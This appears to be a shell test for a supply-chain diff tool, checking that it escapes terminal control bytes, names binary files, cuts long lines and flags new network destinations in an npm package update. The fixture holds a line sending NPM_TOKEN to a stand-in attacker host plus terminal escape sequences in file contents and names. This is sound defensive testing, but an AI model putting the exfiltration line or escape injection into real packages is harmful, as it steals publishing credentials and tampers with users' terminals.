#!/bin/sh
# Package patches are attacker bytes: a release whose files hold terminal
# escape sequences, invalid UTF-8, a NUL-laden binary and a very long
# line.  cairn-diff --patch and the report show them escaped (never a raw
# control byte on the terminal or in HTML/Markdown), name the binary
# instead of printing it, and cut the line.  The installs are made here
# the way npm lays them out: tarballs under their integrity in a cache,
# a package-lock.json naming them, the files extracted.
set -eu
. "$CAIRN_SRC/tests/cli/lib.sh"
need python3 python3

python3 - <<'PY'
import base64, hashlib, io, json, os, tarfile

def tgz(files):
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w:gz", format=tarfile.USTAR_FORMAT,
                      encoding="utf-8", errors="surrogateescape") as t:
        for name, data in files:
            ti = tarfile.TarInfo("package/" + name)
            ti.size, ti.mtime, ti.mode = len(data), 0, 0o644
            t.addfile(ti, io.BytesIO(data))
    return bio.getvalue()

def release(version, index, binary):
    # names are the attacker's too: an escape sequence, invalid UTF-8
    return [("package.json", json.dumps({"name": "evil", "version": version}).encode() + b"\n"),
            ("index.js", index), ("logo.bin", binary),
            ("\x1b[31mred\x1b[0m.bin", binary), ("caf\udce9.js", index)]

hostile = (b"'use strict';\n// \x1b[2J\x1b]0;owned\x07 \xff\xfe\x9b31m\n"
           b"require('https').get('https://drop.evil.example/' + process.env.NPM_TOKEN);\n"
           b"var pad = '" + b"x" * 5000 + b"';\n")
for host, version, files in (
        ("host1", "1.0.0", release("1.0.0", b"'use strict';\n", b"\x00\x01\x02")),
        ("host2", "1.0.1", release("1.0.1", hostile, b"\x00\x01\x03"))):
    data = tgz(files)
    digest = hashlib.sha512(data).digest()
    sri = "sha512-" + base64.b64encode(digest).decode()
    hexd = digest.hex()
    path = os.path.join("cache/_cacache/content-v2/sha512", hexd[:2], hexd[2:4], hexd[4:])
    os.makedirs(os.path.dirname(path), exist_ok=True)
    open(path, "wb").write(data)
    pkg = os.path.join(host, "node_modules/evil")
    os.makedirs(pkg)
    for name, content in files:
        open(os.path.join(pkg, name).encode("utf-8", "surrogateescape"), "wb").write(content)
    open(os.path.join(host, "package.json"), "w").write(
        json.dumps({"name": "h", "version": "1.0.0", "dependencies": {"evil": version}}))
    open(os.path.join(host, "package-lock.json"), "w").write(json.dumps({
        "name": "h", "version": "1.0.0", "lockfileVersion": 3, "requires": True,
        "packages": {"": {"name": "h", "version": "1.0.0", "dependencies": {"evil": version}},
                     "node_modules/evil": {"version": version, "integrity": sri,
                         "resolved": "https://registry.example/evil/-/evil-%s.tgz" % version}}}))
PY
cairn-snap -q --npm-cache cache host1 -o a.cairn
cairn-snap -q --npm-cache cache host2 -o b.cairn

expect_exit 1 cairn-diff --patch --color=always a.cairn b.cairn
# the only escape sequences are cairn-diff's own colours
if LC_ALL=C tr -d '\n' < out.txt | sed 's/\x1b\[[0-9;]*m//g' | LC_ALL=C grep -q "$(printf '[\001-\010\013-\037\177]')"; then
	fail "a control byte reached the terminal: $(grep -n "$(printf '\033')" out.txt | head -3)"
fi
sed 's/\x1b\[[0-9;]*m//g' out.txt > plain.txt
grep -qxF '+// \x1b[2J\x1b]0;owned\x07 \xff\xfe\x9b31m' plain.txt ||
	fail "the escape sequence is not shown escaped once: $(grep -a '^+//' plain.txt)"
grep -qx "Binary file node_modules/evil/logo.bin: size 3 -> 3, sha256 ae4b3280e56e2faf.. -> b744d600fbe38537.. (not shown)" plain.txt ||
	fail "binary: $(grep -a logo.bin plain.txt)"
grep -qxF 'Binary file node_modules/evil/\x1b[31mred\x1b[0m.bin: size 3 -> 3, sha256 ae4b3280e56e2faf.. -> b744d600fbe38537.. (not shown)' plain.txt ||
	fail "a hostile file name: $(grep -a 'red' plain.txt)"
grep -qxF 'diff --git "a/node_modules/evil/caf\\351.js" "b/node_modules/evil/caf\\351.js"' plain.txt ||
	fail "an invalid UTF-8 file name: $(grep -a 'caf' plain.txt)"
grep -q " \[\.\.\. line cut at 1024 bytes \.\.\.\]$" plain.txt || fail "long line not cut"
grep -qxF "+require('https').get('https://drop.evil.example/' + process.env.NPM_TOKEN);" plain.txt ||
	fail "the added line is missing"

# the findings see the added destination; the reports escape it all
expect_exit 1 cairn-diff --patch --findings a.cairn b.cairn
grep -q "CAIRN-D05 node_modules/evil/index.js: new destination in added code: drop.evil.example" out.txt ||
	fail "D05: $(grep CAIRN- out.txt)"
for f in html md json; do
	expect_exit 1 cairn-report --baseline a.cairn --snapshot b.cairn -o "r.$f"
	if LC_ALL=C grep -q "$(printf '[\001-\010\013-\037\177]')" "r.$f"; then
		fail "r.$f holds a raw control byte"
	fi
done
[ "$(jq -r '.patches[] | select(.path == "node_modules/evil/index.js") | .kind' r.json)" = release ] ||
	fail "report patches: $(jq -c '.patches' r.json | head -c 400)"
grep -q 'drop.evil.example' r.html || fail "r.html lacks the patch"
echo "hostile package patches: escaped, binary named, long line cut"
